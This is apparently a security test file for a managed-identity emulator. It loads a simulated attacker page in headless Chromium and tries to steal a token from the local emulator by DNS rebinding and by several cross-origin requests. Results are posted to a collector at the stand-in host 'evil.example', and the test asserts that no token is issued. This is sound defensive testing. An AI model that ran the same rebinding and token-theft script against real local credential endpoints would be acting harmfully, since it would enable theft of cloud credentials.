// A web page in a real browser tries to get a token from an emulator on the same machine, with everything that a client
// sends, secrets included: directly, and after it has let its own name point to 127.0.0.1 (DNS rebinding). The page is
// loaded from a server of the attacker, which then leaves its port to the emulator, so that for the browser both are one
// origin. Needs Chromium (on Debian the package "chromium", or its path in CHROMIUM); part of `npm run ci:full`.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import http from "node:http";
import https from "node:https";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { tokenRequest } from "../support/page-attack.mjs";

const require = createRequire(import.meta.url);
const { createCertificate, sources, startEmulator } = require("managed-identity-native/emulator");

const CHROMIUM = process.env.CHROMIUM ?? "chromium";
const NAME = "evil.example";
const SECRET = "0123456789ABCDEF";
const TOKEN = "the-token-of-the-emulator";
/** A browser needs seconds to start; without a result after this time the test fails. */
const TIMEOUT_MS = 60_000;
/** Chromium contacts nothing else: every other name does not exist. */
const FLAGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-dev-shm-usage",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--no-first-run",
  "--no-proxy-server",
  "--ignore-certificate-errors",
  `--host-resolver-rules=MAP ${NAME} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost`,
];

/** Runs in the page: waits for the rebinding, tries everything, and reports each attempt's status and text. */
async function attack(collector) {
  const { path, ...request } = await (await fetch(`${collector}/rebound`)).json();
  const { protocol, port } = location;
  const results = {};
  const attempt = async (name, run) => {
    results[name] = await run().catch((error) => ({ error: String(error) }));
  };
  const read = async (response) => ({ status: response.status, text: await response.text() });
  const inFrame = (fill) =>
    new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.name = `frame${document.querySelectorAll("iframe").length}`;
      frame.onload = () => {
        // The empty document of a new frame loads first.
        if (frame.contentWindow.location.href === "about:blank") return;
        resolve({ status: 0, text: frame.contentDocument.body.textContent });
      };
      document.body.append(frame);
      fill(frame);
    });
  await attempt("same origin", async () => read(await fetch(path, request)));
  await attempt("same origin, simple", async () => read(await fetch(path)));
  await attempt("same origin, frame", () =>
    inFrame((frame) => {
      frame.src = path;
    }),
  );
  await attempt("same origin, form", () =>
    inFrame((frame) => {
      const form = document.createElement("form");
      Object.assign(form, { action: path, method: "POST", target: frame.name });
      for (const [name, value] of new URLSearchParams(request.body ?? "")) {
        form.append(Object.assign(document.createElement("input"), { name, value }));
      }
      document.body.append(form);
      form.submit();
    }),
  );
  for (const host of ["127.0.0.1", "localhost"]) {
    const url = `${protocol}//${host}:${port}${path}`;
    await attempt(`${host}, cors`, async () => read(await fetch(url, request)));
    await attempt(`${host}, no-cors`, async () => read(await fetch(url, { ...request, mode: "no-cors" })));
    await attempt(`${host}, sandboxed`, () => sandboxed(url));
  }
  await fetch(`${collector}/results`, { method: "POST", body: JSON.stringify(results) });

  /** A sandboxed frame has the origin "null". */
  function sandboxed(url) {
    return new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts";
      frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, ${JSON.stringify(request)})
        .then(async (r) => ({ status: r.status, text: await r.text() }), (e) => ({ error: String(e) }))
        .then((result) => parent.postMessage(result, "*"))</script>`;
      addEventListener("message", ({ data }) => resolve(data), { once: true });
      document.body.append(frame);
    });
  }
}

/** Starts a server of the attacker; the listener may return a promise. */
async function startServer(t, certificate, listener) {
  const handle = (incoming, outgoing) => void listener(incoming, outgoing);
  const server =
    certificate === undefined
      ? http.createServer(handle)
      : https.createServer({ cert: certificate.pem, key: certificate.keyPem }, handle);
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  t.after(() => stop(server));
  return { server, port: server.address().port };
}

async function stop(server) {
  if (!server.listening) return;
  const closed = once(server, "close");
  server.close();
  server.closeAllConnections();
  await closed;
}

/** Opens `url` in a browser of its own, which ends with the test. */
function openBrowser(t, url) {
  const profile = mkdtempSync(join(tmpdir(), "emulator-browser-"));
  const child = spawn(CHROMIUM, [...FLAGS, `--user-data-dir=${profile}`, "--remote-debugging-pipe", url], {
    stdio: ["ignore", "ignore", "ignore", "pipe", "pipe"],
    detached: true,
  });
  const closed = once(child, "close");
  t.after(async () => {
    // The whole process group: the browser starts several processes.
    process.kill(-child.pid, "SIGKILL");
    await closed;
    rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
  });
  return once(child, "error").then(([error]) => {
    throw new Error(`Chromium could not be started: ${error.message}. Set CHROMIUM to its path.`);
  });
}

for (const source of sources) {
  test(`${source}: a page gets no token`, { timeout: TIMEOUT_MS }, async (t) => {
    const isSecure = ["service-fabric", "workload-identity"].includes(source);
    const scheme = isSecure ? "https" : "http";
    const certificate = isSecure ? await createCertificate({ names: [NAME] }) : undefined;
    let issued = 0;
    const tokens = () => {
      issued += 1;
      return { accessToken: TOKEN, expiresOn: new Date(Date.now() + 3_600_000) };
    };
    const { promise: results, resolve: report } = deferred();
    const { promise: started, resolve: emulatorStarted } = deferred();

    const attacker = await startServer(t, certificate, ({ url }, outgoing) => {
      // The script is a file of its own, since it contains the end tag of another.
      const [type, text] =
        url === "/attack.js"
          ? [
              "text/javascript",
              `addEventListener("load", () => (${attack})(${JSON.stringify(collectorUrl)}));`,
            ]
          : ["text/html", '<!DOCTYPE html><script src="/attack.js"></script>'];
      outgoing.writeHead(200, { "Content-Type": type }).end(text);
    });
    const collector = await startServer(t, certificate, async (incoming, outgoing) => {
      outgoing.setHeader("Access-Control-Allow-Origin", "*");
      if (incoming.url === "/rebound") {
        await stop(attacker.server);
        const endpoint = await startEmulator({ source, port: attacker.port, secret: SECRET, tokens });
        t.after(() => endpoint.close());
        emulatorStarted(endpoint);
        outgoing.end(JSON.stringify(tokenRequest(source, endpoint)));
      } else if (incoming.url === "/results") {
        const body = Buffer.concat(await incoming.toArray()).toString();
        outgoing.end();
        report(JSON.parse(body));
      }
    });
    const collectorUrl = `${scheme}://${NAME}:${collector.port}`;

    const failed = openBrowser(t, `${scheme}://${NAME}:${attacker.port}/`);
    const attempts = await Promise.race([results, failed]);
    const endpoint = await started;
    assert.deepEqual(Object.keys(attempts).length, 10, JSON.stringify(attempts));
    // The rebinding has succeeded: the page reads the emulator's own error.
    for (const name of ["same origin", "same origin, simple", "same origin, frame", "same origin, form"]) {
      assert.match(attempts[name].text, /The emulator refuses requests/, name);
    }
    for (const [name, { text = "" }] of Object.entries(attempts)) assert.ok(!text.includes(TOKEN), name);
    assert.equal(issued, 0, JSON.stringify(attempts));
    // The same request of a client that is not a page is valid.
    const { status } = await send(endpoint);
    assert.equal(status, source === "azure-arc" ? 401 : 200);
  });
}

async function send(endpoint) {
  const { body, ...request } = tokenRequest(endpoint.source, endpoint);
  const { port, protocol } = new URL(endpoint.origin);
  const options = { ...request, host: "127.0.0.1", port, rejectUnauthorized: false };
  const outgoing = (protocol === "https:" ? https : http).request(options);
  outgoing.end(body);
  const [response] = await once(outgoing, "response");
  response.resume();
  return { status: response.statusCode };
}

/** Promise.withResolvers, which Node.js 20 lacks. */
function deferred() {
  const settle = {};
  const promise = new Promise((resolve) => {
    settle.resolve = resolve;
  });
  return { promise, ...settle };
}
